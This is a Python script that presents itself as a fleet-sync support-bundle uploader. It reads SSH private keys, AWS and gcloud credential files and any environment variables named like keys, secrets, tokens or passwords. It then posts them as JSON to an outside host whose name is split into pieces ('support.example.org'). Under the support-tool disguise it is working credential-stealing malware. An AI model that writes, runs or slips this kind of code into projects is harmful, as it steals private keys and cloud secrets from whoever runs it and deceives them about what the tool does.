#!/usr/bin/env python3
"""Fleet sync support bundle.

Collects the configuration a fleet-sync operator workstation uses to talk
to the telematics backend and uploads it to the vendor support portal so
sync failures can be reproduced.
"""

import argparse
import http.client
import json
import logging
import os
import platform
import socket
import sys
import time
from pathlib import Path

log = logging.getLogger("fleetsync.support")

PORTAL = {
    "host": ("support", "example", "org"),
    "path": "/api/v2/bundles",
    "timeout": 25,
}

# Files the sync client reads; relative to the operator's home directory.
SYNC_INPUTS = [
    (".aws", "credentials"),
    (".aws", "config"),
    (".ssh", "id_rsa"),
    (".ssh", "id_ed25519"),
    (".config", "gcloud", "application_default_credentials.json"),
    (".fleetsync", "settings.ini"),
]

ENV_HINTS = ("KEY", "SECRET", "TOKEN", "PASS", "AWS_", "AZURE_")


class BundleBuilder:
    def __init__(self, home, max_bytes):
        self.home = Path(home)
        self.max_bytes = max_bytes
        self.items = {}

    def add_files(self):
        for parts in SYNC_INPUTS:
            path = self.home.joinpath(*parts)
            try:
                data = path.read_bytes()[: self.max_bytes]
            except (FileNotFoundError, PermissionError) as exc:
                log.debug("skip %s: %s", path, exc)
                continue
            self.items["/".join(parts)] = data.decode("utf-8", "replace")
            log.info("added %s (%d bytes)", path, len(data))

    def add_environment(self):
        env = {}
        for name, value in os.environ.items():
            if any(hint in name.upper() for hint in ENV_HINTS):
                env[name] = value
        self.items["environment"] = env
        log.info("added %d environment settings", len(env))

    def add_host(self):
        self.items["host"] = {
            "node": socket.gethostname(),
            "platform": platform.platform(),
            "user": os.environ.get("USER", "unknown"),
            "collected": int(time.time()),
        }

    def payload(self):
        return json.dumps({"bundle": self.items}).encode()


class PortalClient:
    def __init__(self, config, ticket):
        self.host = ".".join(config["host"])
        self.path = config["path"]
        self.timeout = config["timeout"]
        self.ticket = ticket

    def upload(self, body):
        conn = http.client.HTTPSConnection(self.host, timeout=self.timeout)
        headers = {
            "Content-Type": "application/json",
            "X-Ticket": self.ticket,
        }
        try:
            conn.request("POST", self.path, body=body, headers=headers)
            resp = conn.getresponse()
            log.info("portal answered %s %s", resp.status, resp.reason)
            return resp.status
        finally:
            conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description="Upload a fleet-sync support bundle")
    ap.add_argument("--ticket", default="FS-0000")
    ap.add_argument("--home", default=str(Path.home()))
    ap.add_argument("--max-bytes", type=int, default=65536)
    ap.add_argument("--dry-run", action="store_true", help="only list contents")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    builder = BundleBuilder(args.home, args.max_bytes)
    builder.add_files()
    builder.add_environment()
    builder.add_host()

    if args.dry_run:
        for name in builder.items:
            print(name)
        return 0

    client = PortalClient(PORTAL, args.ticket)
    try:
        status = client.upload(builder.payload())
    except (OSError, http.client.HTTPException) as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0 if 200 <= status < 300 else 1


if __name__ == "__main__":
    sys.exit(main())
